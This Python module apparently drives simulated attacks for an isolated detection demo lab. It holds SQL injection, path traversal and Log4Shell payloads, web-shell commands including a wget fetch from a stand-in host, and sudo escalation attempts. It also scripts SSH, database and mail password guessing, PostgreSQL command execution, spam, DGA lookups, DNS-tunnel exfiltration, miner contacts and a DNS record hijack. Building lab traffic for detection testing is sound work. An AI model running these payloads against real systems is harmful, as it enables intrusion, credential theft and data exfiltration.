"""The attacks, each bounded in count. Who does what to whom stands in demo/README.md; keep the two in step.

Nothing of them harms anything: the servers are alone in their namespaces, and the application only pretends to be broken.
"""
import base64, concurrent.futures, hashlib, random, subprocess, time
import client, hosts, ordinary

SCANNER = "198.51.100.23"       # scans ports and the portal, and gets in through it
GUESSER = "203.0.113.66"        # guesses passwords of SSH
SPAMMER = "198.51.100.77"       # guesses passwords of mail, and sends spam
INFECTED = "192.0.2.145"        # a machine of the school with a bot on it

SQLMAP = "sqlmap/1.7.2#stable (https://sqlmap.org)"
NIKTO = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"
PATHS = """/.git/HEAD /.git/config /.env /.env.bak /wp-login.php /wp-admin/ /wp-config.php.bak /xmlrpc.php /phpmyadmin/ /pma/ /adminer.php /server-status /server-info /cgi-bin/test.cgi
/cgi-bin/bash /manager/html /solr/admin/ /actuator/env /actuator/health /jenkins/ /backup.zip /backup.sql /db.sql /site.tar.gz /config.php.bak /.svn/entries /.DS_Store /web.config /crossdomain.xml
/admin /admin/login /administrator/ /phpinfo.php /info.php /test.php /shell.php /cmd.php /c99.php /r57.php /uploads/ /upload.php /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /owa/ /ecp/
/autodiscover/autodiscover.xml /api/v1/users /swagger.json /graphql /.aws/credentials /.ssh/id_rsa /id_rsa /dump.sql /old/ /test/ /tmp/ /logs/ /console/ /struts2-showcase/ /hnap1/ /boaform/admin/formLogin
/login.action /index.php?s=/Index/\\think\\app/invokefunction /etc/passwd /passwd.txt /users.txt /robots.txt /sitemap.xml""".split()


def scan_ports():
    ports = [21, 23, 25, 53, 81, 110, 111, 135, 139, 143, 389, 443, 445, 465, 873, 993, 995, 1433, 1521, 2049, 2222, 2375, 3000, 3128, 3306, 3389, 5000, 5432, 5601, 5900, 5984, 6379, 7001, 8000, 8009,
             8080, 8081, 8443, 8888, 9000, 9042, 9090, 9200, 9300, 11211, 15672, 27017, 50000]
    targets = [("192.0.2.10", port) for port in ports] + [(f"192.0.2.{n}", 3389) for n in range(2, 32)] + [("192.0.2.70", port) for port in ports]
    client.scan(SCANNER, targets, 0.12)


def scan_ports_ipv6():
    client.scan("2001:db8:66::23", [("2001:db8:10::10", port) for port in (21, 22, 23, 25, 53, 110, 139, 143, 389, 443, 445, 993, 1433, 1521, 3306, 3389, 5432,
                                                                        5900, 6379, 8080, 8443, 9200, 11211, 27017)], 0.3)


def scan_web():
    client.http_get(SCANNER, "192.0.2.10", 80, [("GET", path, None) for path in PATHS], NIKTO, "www.tinh-vidu.example", 0.15)
    client.http_get("2001:db8:66::23", "2001:db8:10::10", 80, [("GET", path, None) for path in PATHS[:12]], NIKTO, "www.tinh-vidu.example", 0.1)


def break_into_web():
    """SQL injection until one answers, a file outside of the folder, a file put there, and commands by it."""
    tries = ["1'", "1' AND 1=1-- -", "1' AND 1=2-- -", "1' OR '1'='1", "1' ORDER BY 5-- -", "1' AND SLEEP(5)-- -", "1' UNION SELECT NULL-- -", "1' UNION SELECT NULL,NULL,NULL-- -",
             "1' UNION SELECT 1,table_name,3 FROM information_schema.tables-- -", "1' UNION SELECT 1,concat(ten,0x3a,matkhau),3 FROM nguoidung-- -"]
    for site in ("www.tinh-vidu.example", "dichvu.tinh-vidu.example"):
        client.http_get(SCANNER, "192.0.2.10", 80, [("GET", "/tra-cuu?ma=" + client.urllib.parse.quote(text), None) for text in tries], SQLMAP, site, 0.4)
    agent = "python-requests/2.31.0"
    # Written so on the wire: http.client does not tidy them.
    climbs = ["/xem?tep=../../../../etc/passwd", "/xem?tep=..%2f..%2f..%2f..%2fetc%2fpasswd", "/xem?tep=....//....//etc/shadow", "/tai-lieu../cau-hinh.ini", "/static/..%252f..%252fetc/passwd",
              "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"]
    client.http_get(SCANNER, "192.0.2.10", 80, [("GET", path, None) for path in climbs], agent, "www.tinh-vidu.example", 0.6)
    client.http_get(SCANNER, "192.0.2.10", 80, [("GET", "/?x=${jndi:ldap://198.51.100.23:1389/a}", None)], "${jndi:ldap://198.51.100.23:1389/a}", "www.tinh-vidu.example", 0.4)
    client.http_get(SCANNER, "192.0.2.10", 80, [("POST", "/tai-len", "tep=anh_bia.php"), ("GET", "/uploads/anh_bia.php", None), ("GET", "/uploads/anh_bia.php?cmd=id", None),
                                                ("GET", "/uploads/anh_bia.php?cmd=uname%20-a", None), ("GET", "/uploads/anh_bia.php?cmd=cat%20/etc/passwd", None),
                                                ("GET", "/uploads/anh_bia.php?cmd=sudo%20-l", None),
                                                ("POST", "/uploads/anh_bia.php", "cmd=wget http://198.51.100.80/a.sh -O /tmp/a.sh")], agent, "www.tinh-vidu.example", 2)


def climb_on_web_server():
    """On web-01, as the web server's account: what the pretended web shell would have started."""
    for words in (["sudo", "-n", "-l"], ["sudo", "-n", "/usr/bin/find", "/etc/hostname", "-exec", "/usr/bin/id", ";"], ["sudo", "-n", "/bin/bash", "-c", "id"]):
        hosts.run("web", ["setpriv", "--reuid=www-data", "--regid=www-data", "--clear-groups", *words], cwd="/", stdin=subprocess.DEVNULL)
        time.sleep(3)


def guess_ssh():
    users = ["root"] * 12 + ["admin", "test", "oracle", "ubuntu", "git", "postgres", "user", "ftp", "nagios", "deploy"] + ["an.le"] * 6 + ["quantri"] * 6 + ["vanthu"] * 6
    random.shuffle(users)
    words = ["123456", "password", "admin", "1", "12345678", "qwerty", "matkhau", "Abc@123", "root", "toor"]
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        list(pool.map(lambda user: ordinary.ssh(GUESSER, user, "192.0.2.10", "true", random.choice(words)), users))
    ordinary.ssh(GUESSER, "vanthu", "192.0.2.10", "id; uname -a", "vanthu123")
    time.sleep(4)
    # He asks for root: the password is known, but the account is not allowed.
    ordinary.ssh(GUESSER, "vanthu", "192.0.2.10", "echo vanthu123 | sudo -S -p '' /bin/bash -c id; echo vanthu123 | sudo -S -p '' /usr/bin/cat /etc/shadow", "vanthu123")


def guess_database():
    """From web-01: the password of the database, and a program started by it."""
    def psql(user, password, *statements):
        words = [word for statement in statements for word in ("-c", statement)]
        return subprocess.run(["psql", "-wq", f"host=192.0.2.20 user={user} dbname=hoso password={password}", *words], capture_output=True, timeout=20).returncode == 0

    for password in ["postgres", "123456", "password", "admin", "postgres123", "1", "root", "abc123", "matkhau", "qwerty", "hoso", "hoso2024"]:
        psql("postgres", password, "SELECT 1")
        psql("baocao", password, "SELECT 1")
        time.sleep(0.5)
    psql("baocao", "baocao1", "SELECT version()", "CREATE TABLE tam (dong text)", "COPY tam FROM PROGRAM 'id; uname -a'", "SELECT * FROM tam",
         "COPY (SELECT 1) TO PROGRAM 'cat > /tmp/.x'", "COPY hoso TO '/tmp/hoso.csv'", "CREATE ROLE sao_luu SUPERUSER LOGIN", "DROP TABLE tam")


def guess_mail():
    users = ["admin", "info", "hoa.pham", "minh.vo", "thuvien", "giao-vu", "ketoan"]
    passwords = ["123456", "matkhau", "truong2024", "Abc@123", "admin", "1234", "password"]
    for password in passwords:
        for user in users:
            client.guess_mail(SPAMMER, "192.0.2.70", 587, user, password)
            time.sleep(0.15)
    if not client.guess_mail(SPAMMER, "192.0.2.70", 587, "hoa.pham", "hoa2024"):
        raise SystemExit("hoa.pham's password was not taken")


def send_spam():
    """As hoa.pham, to 480 strangers in 120 letters; a third of them do not exist."""
    for number in range(120):
        domain = ["example.com", "example.org", "example.net"][number % 3]
        client.send_mail(SPAMMER, "192.0.2.70", 587, ("hoa.pham", "hoa2024"), "hoa.pham@truong-vidu.example", [f"khach{number * 4 + n}@{domain}" for n in range(4)],
                         "Nhan qua tri an", "http://qua-tang.example.net/?m=1")
        time.sleep(0.25)


def relay_mail():
    """Letters that are none of this server's business."""
    for number in range(8):
        client.send_mail(SPAMMER, "192.0.2.70", 25, None, "a@example.net", [f"b{number}@example.com"], "x", "y")
        time.sleep(0.5)


def bot_beacon(end):
    """Every six seconds the same question by the proxy."""
    begin, number = time.monotonic(), 0
    while time.monotonic() < end:
        client.get_through(INFECTED, "192.0.2.72", "POST", "http://cap-nhat.example.net/tin-hieu", "Mozilla/4.0 (compatible; MSIE 6.0)", "id=7f3a&n=%d" % number)
        number += 1
        time.sleep(max(0, begin + number * 6 - time.monotonic()))


def bot_odd_ports():
    for port in (22, 25, 445, 3333, 4444, 5555, 6667, 8333, 9001, 14444, 1080, 3389):
        client.connect_through(INFECTED, "192.0.2.72", f"203.0.113.99:{port}")
        time.sleep(0.8)
    for _ in range(3):
        client.connect_through(INFECTED, "192.0.2.72", "203.0.113.99:8443")
        time.sleep(2)


def bot_generated_names():
    """A domain generation algorithm: names that nobody registered."""
    for number in range(120):
        digest = hashlib.sha256(f"bot {number // 40} {number}".encode()).digest()
        name = "".join(chr(97 + byte % 26) for byte in digest[:12 + digest[31] % 6])
        client.ask(INFECTED, "192.0.2.130", f"{name}.{['com', 'net', 'info', 'biz', 'top'][digest[30] % 5]}", 1)
        time.sleep(0.15)


def bot_tunnel():
    """A file carried out in the names of questions."""
    secret = base64.b32encode(random.randbytes(3600)).decode().lower().rstrip("=")
    for number in range(100):
        part = secret[number * 56:number * 56 + 56]
        client.ask(INFECTED, "192.0.2.71", f"{part[:28]}.{part[28:]}.{number:04x}.dong-bo.example.net", 16)
        time.sleep(0.12)


def bot_miner():
    """The name of a public mining pool, which is the one name here that is not kept for examples: rules know pools by name."""
    for _ in range(6):
        client.ask(INFECTED, "192.0.2.71", "pool.supportxmr.com", 1)
        client.connect_through(INFECTED, "192.0.2.72", "pool.supportxmr.com:3333")
        time.sleep(5)


def transfer_zone():
    subprocess.run(["dig", "-b", SCANNER, "+time=3", "+tries=1", "@192.0.2.11", "tinh-vidu.example", "AXFR"], capture_output=True, timeout=20)
    for name in ("mail", "vpn", "dev", "test", "git", "intranet", "admin", "backup", "db", "ftp", "owa", "portal"):
        client.ask(SCANNER, "192.0.2.11", f"{name}.tinh-vidu.example", 1)
    client.ask(SCANNER, "192.0.2.11", "www.example.com", 1)
    update = f"server 192.0.2.11\nlocal {SCANNER}\nzone tinh-vidu.example\nupdate add www.tinh-vidu.example 60 A 198.51.100.23\nsend\n"
    subprocess.run(["nsupdate", "-t", "5", "-r", "0"], input=update, text=True, capture_output=True, timeout=30)
